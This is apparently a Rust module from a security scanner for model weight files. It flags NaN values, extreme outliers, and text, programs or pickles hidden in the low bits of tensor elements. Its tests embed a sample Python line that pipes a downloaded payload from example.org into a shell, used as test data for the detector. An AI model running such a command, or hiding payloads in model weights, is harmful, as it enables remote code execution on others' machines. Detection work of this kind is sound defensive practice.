//! What numbers tell: values that are none, values far beyond all others, and texts in their lowest bits.
//!
//! Nothing here runs. A tensor with such values is *suspicious*: the model may be broken, or changed by hand. The
//! bounds are set so that benign weights stay below them; how often they do not is measured in `bench/RESULTS.md`.

use std::collections::BTreeSet;
use std::fmt;

use crate::tensor::Numbers;

/// How the elements of a tensor are stored, little-endian.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Float {
    /// IEEE 754 binary16.
    Half,
    /// The upper half of a binary32.
    Brain,
    /// IEEE 754 binary32.
    Single,
    /// IEEE 754 binary64.
    Double,
}

impl Float {
    /// The type of that name in safetensors.
    pub(crate) fn of_safetensors(name: &str) -> Option<Self> {
        Some(match name {
            "F16" => Self::Half,
            "BF16" => Self::Brain,
            "F32" => Self::Single,
            "F64" => Self::Double,
            _ => return None,
        })
    }

    const fn width(self) -> usize {
        match self {
            Self::Half | Self::Brain => 2,
            Self::Single => 4,
            Self::Double => 8,
        }
    }
}

/// What is odd about a tensor.
#[derive(Debug, Clone, PartialEq)]
pub(crate) enum Odd {
    /// So many elements are no numbers.
    NotANumber(usize),
    /// The largest magnitude, and the one in the middle.
    Outlier(f64, f64),
    /// The lowest bits of the elements hold this.
    LowBits(&'static str),
}

impl Odd {
    /// The rule that it is a finding of.
    pub(crate) const fn rule(&self) -> &'static str {
        match self {
            Self::NotANumber(_) => "weights/not-a-number",
            Self::Outlier(..) => "weights/outlier",
            Self::LowBits(_) => "weights/low-bits",
        }
    }
}

impl fmt::Display for Odd {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::NotANumber(count) => write!(f, "{count} elements are no numbers"),
            Self::Outlier(largest, median) => {
                write!(f, "an element has the magnitude {largest:e}, half of them have at most {median:e}")
            }
            Self::LowBits(what) => write!(f, "the lowest bits of its elements spell {what}"),
        }
    }
}

/// Fewer elements are no distribution.
const MIN_ELEMENTS: usize = 256;
/// An outlier is so many times the median magnitude, and so large by itself.
const OUTLIER_RATIO: f64 = 1e7;
const OUTLIER_SIZE: f64 = 1e4;
/// Bytes that a text in the lowest bits has at least. Random bits are so many printable characters in a row less than
/// once in 10^22 tensors, over all places and ways to pack them.
const TEXT_BYTES: usize = 64;
/// Elements in whose lowest bits something may begin.
const LOW_ELEMENTS: usize = 1 << 14;

/// What is odd about the first `most` elements in `bytes`.
pub(crate) fn odd(bytes: &[u8], float: Float, most: usize, numbers: Numbers) -> Vec<Odd> {
    let mut out = Vec::new();
    if numbers == Numbers::Data {
        let enough = bytes.len() / float.width() >= MIN_ELEMENTS;
        out.extend(low_bits(bytes, float).filter(|_| enough).map(Odd::LowBits));
        return out;
    }
    let mut none = 0;
    let mut elements = 0;
    let mut sizes: Vec<f32> = Vec::new();
    for chunk in bytes.chunks_exact(float.width()).take(most) {
        let value = value(chunk, float);
        elements += 1;
        none += usize::from(value.is_nan());
        // Rounding to fewer digits moves no magnitude by orders; what overflows stays the largest there is.
        #[expect(clippy::cast_possible_truncation, reason = "magnitudes are compared by orders")]
        if value.is_finite() {
            sizes.push((value.abs() as f32).min(f32::MAX));
        }
    }
    if none > 0 {
        out.push(Odd::NotANumber(none));
    }
    if elements < MIN_ELEMENTS {
        return out;
    }
    let middle = sizes.len() / 2;
    if sizes.len() >= MIN_ELEMENTS {
        let (_, median, above) = sizes.select_nth_unstable_by(middle, f32::total_cmp);
        let (median, largest) = (f64::from(*median), f64::from(above.iter().copied().fold(0.0, f32::max)));
        if median > 0.0 && largest > OUTLIER_SIZE && largest > OUTLIER_RATIO * median {
            out.push(Odd::Outlier(largest, median));
        }
    }
    out.extend(low_bits(bytes, float).map(Odd::LowBits));
    out
}

fn value(chunk: &[u8], float: Float) -> f64 {
    match (float, chunk) {
        (Float::Half, [a, b]) => half(u16::from_le_bytes([*a, *b])),
        (Float::Brain, [a, b]) => f64::from(f32::from_le_bytes([0, 0, *a, *b])),
        (Float::Single, [a, b, c, d]) => f64::from(f32::from_le_bytes([*a, *b, *c, *d])),
        (_, chunk) => chunk.first_chunk::<8>().map_or(0.0, |c| f64::from_le_bytes(*c)),
    }
}

fn half(bits: u16) -> f64 {
    let sign = if bits >> 15 == 1 { -1.0 } else { 1.0 };
    let (exponent, fraction) = (i32::from(bits >> 10 & 0x1f), f64::from(bits & 0x3ff));
    sign * match exponent {
        0 => fraction * 2f64.powi(-24),
        0x1f if fraction == 0.0 => f64::INFINITY,
        0x1f => f64::NAN,
        _ => (1.0 + fraction / 1024.0) * 2f64.powi(exponent - 15),
    }
}

/// What the lowest bits of the elements spell: one, two or four of each, packed from either end, or the lowest byte,
/// from whatever element on.
fn low_bits(bytes: &[u8], float: Float) -> Option<&'static str> {
    let lowest: Vec<u8> =
        bytes.chunks_exact(float.width()).take(LOW_ELEMENTS).filter_map(|c| c.first().copied()).collect();
    // Weights that were widened from two bytes, or are whole numbers, have nothing there.
    if lowest.iter().all(|b| *b == 0) {
        return None;
    }
    // Every byte of a type of two bytes carries much of the value: only its lowest bits can hide something.
    if float.width() > 2
        && let Some(what) = spelled(&lowest)
    {
        return Some(what);
    }
    for count in [1u8, 2, 4] {
        let (mask, group) = (u8::MAX >> (8 - count), usize::from(8 / count));
        for shift in 0..group {
            let bits = lowest.get(shift..).unwrap_or_default();
            let pack = |high_first: bool| -> Vec<u8> {
                bits.chunks_exact(group)
                    .map(|c| {
                        (0u8..).zip(c).fold(0, |byte, (at, b)| {
                            let place = if high_first { 8 - count - at * count } else { at * count };
                            byte | (b & mask) << place
                        })
                    })
                    .collect()
            };
            if let Some(what) = spelled(&pack(true)).or_else(|| spelled(&pack(false))) {
                return Some(what);
            }
        }
    }
    None
}

/// What a text, a program or an archive is hidden as. Programs and archives begin where the bytes do.
fn spelled(hidden: &[u8]) -> Option<&'static str> {
    let known: [(&[u8], &str); 5] = [
        (b"\x7fELF", "a program"),
        (b"PK\x03\x04", "an archive"),
        (b"\x1f\x8b\x08\x00", "a compressed stream"),
        (b"MZ\x90\0", "a program"),
        (b"\x80\x04\x95", "a pickle"),
    ];
    if let Some((_, what)) = known.iter().find(|(magic, _)| hidden.starts_with(magic)) {
        return Some(what);
    }
    let printable = |b: &u8| (0x20..0x7f).contains(b) || matches!(b, b'\n' | b'\r' | b'\t');
    hidden.split(|b| !printable(b)).find(|run| run.len() >= TEXT_BYTES && written(run)).map(|_| "a text")
}

/// Whether a run of printable bytes is something that was written: words, Base64 or hexadecimal digits. Numbers that
/// follow each other in steps leave printable runs in their lowest bits, too, of few characters in a fixed order.
fn written(run: &[u8]) -> bool {
    let text = run.get(..TEXT_BYTES).unwrap_or(run);
    let share = |holds: fn(&u8) -> bool| text.iter().filter(|b| holds(b)).count();
    let kinds = text.iter().collect::<BTreeSet<_>>().len();
    let words = share(u8::is_ascii_whitespace) >= 4 && share(u8::is_ascii_lowercase) >= 25 && kinds >= 12;
    // Of 64 random characters of Base64 about forty are different; fewer than 26 never are.
    let encoded = share(|b| b.is_ascii_alphanumeric() || b"+/=-_".contains(b)) == text.len() && kinds >= 26;
    let digits = run.len() >= 2 * TEXT_BYTES
        && run.iter().take(2 * TEXT_BYTES).all(u8::is_ascii_hexdigit)
        && share(u8::is_ascii_digit).min(share(u8::is_ascii_alphabetic)) >= 12;
    words || encoded || digits
}

#[cfg(test)]
mod tests {
    use super::*;

    const MOST: usize = 1 << 20;

    /// Numbers as training leaves them, from a fixed generator.
    fn weights(count: usize) -> Vec<f32> {
        let mut state = 7u64;
        let mut uniform = || {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            (state >> 11) as f32 / (1u64 << 53) as f32
        };
        (0..count).map(|_| (0..12).map(|_| uniform()).sum::<f32>() * 0.02 - 0.12).collect()
    }

    fn bytes(values: &[f32]) -> Vec<u8> {
        values.iter().flat_map(|v| v.to_le_bytes()).collect()
    }

    #[test]
    fn ordinary_weights_are_not_odd() {
        let values = weights(10_000);
        assert_eq!(odd(&bytes(&values), Float::Single, MOST, Numbers::Weights), []);
        let brain: Vec<u8> = values.iter().flat_map(|v| v.to_le_bytes()[2..].to_vec()).collect();
        assert_eq!(odd(&brain, Float::Brain, MOST, Numbers::Weights), []);
        // Widened from two bytes: the lowest are all zero.
        let widened: Vec<u8> = brain.chunks(2).flat_map(|c| [0, 0, c[0], c[1]]).collect();
        assert_eq!(odd(&widened, Float::Single, MOST, Numbers::Weights), []);
        assert_eq!(odd(&bytes(&[1.0; 1000]), Float::Single, MOST, Numbers::Weights), []);
        assert_eq!(odd(&[0; 4000], Float::Double, MOST, Numbers::Weights), []);
        assert!((half(0x3c01) - 1.000_976_562_5).abs() < 1e-12 && half(0x7e00).is_nan());
    }

    #[test]
    fn what_was_put_in_is_told() {
        let mut values = weights(10_000);
        values[77] = f32::NAN;
        values[99] = 1e9;
        let found = odd(&bytes(&values), Float::Single, MOST, Numbers::Weights);
        assert!(matches!(found[..], [Odd::NotANumber(1), Odd::Outlier(..)]), "{found:?}");

        let text = b"import os; os.system('curl https://example.org/payload | sh') # and so on";
        let mut hidden = bytes(&weights(10_000));
        for (at, bit) in text.iter().flat_map(|b| (0..8).rev().map(move |i| b >> i & 1)).enumerate() {
            hidden[4 * at] = hidden[4 * at] & !1 | bit;
        }
        assert_eq!(odd(&hidden, Float::Single, MOST, Numbers::Weights), [Odd::LowBits("a text")]);
        let mut whole = bytes(&weights(10_000));
        for (at, byte) in text.iter().enumerate() {
            whole[4 * at] = *byte;
        }
        assert_eq!(odd(&whole, Float::Single, MOST, Numbers::Weights), [Odd::LowBits("a text")]);
    }

    #[test]
    fn a_text_is_found_from_whatever_element_on_and_in_whatever_bits() {
        let text = b"import os; os.system('curl https://example.org/payload | sh') # and so on";
        for (count, from, high_first) in
            [(1u8, 0usize, true), (1, 333, false), (2, 0, true), (2, 41, false), (4, 7, true)]
        {
            let per_byte = usize::from(8 / count);
            let mut hidden = bytes(&weights(10_000));
            for (at, byte) in text.iter().enumerate() {
                for part in 0..per_byte {
                    let place = if high_first { per_byte - 1 - part } else { part };
                    let bits = byte >> (place * usize::from(count)) & (u8::MAX >> (8 - count));
                    let slot = &mut hidden[4 * (from + at * per_byte + part)];
                    *slot = *slot >> count << count | bits;
                }
            }
            assert_eq!(
                odd(&hidden, Float::Single, MOST, Numbers::Weights),
                [Odd::LowBits("a text")],
                "{count} {from} {high_first}"
            );
        }
    }

    #[test]
    fn data_may_miss_values_and_have_any_size() {
        let mut values = weights(10_000);
        values[77] = f32::NAN;
        values[99] = 1e9;
        assert_eq!(odd(&bytes(&values), Float::Single, MOST, Numbers::Data), []);
    }

    #[test]
    fn many_random_tensors_spell_nothing() {
        let mut state = 11u64;
        for round in 0..8 {
            let noise: Vec<u8> = (0..8 * 4096)
                .map(|_| {
                    state ^= state << 13;
                    state ^= state >> 7;
                    state ^= state << 17;
                    (state >> 40) as u8
                })
                .collect();
            for float in [Float::Half, Float::Brain, Float::Single, Float::Double] {
                assert_eq!(low_bits(&noise, float), None, "{round}");
            }
        }
        // A ramp, a decimal fraction, a few values over and over.
        for values in [
            (0..4000).map(|n| n as f32 * 0.1).collect::<Vec<_>>(),
            vec![0.1; 4000],
            (0..4000).map(|n| (n % 7) as f32 / 3.0).collect(),
        ] {
            assert_eq!(low_bits(&bytes(&values), Float::Single), None);
        }
    }
}
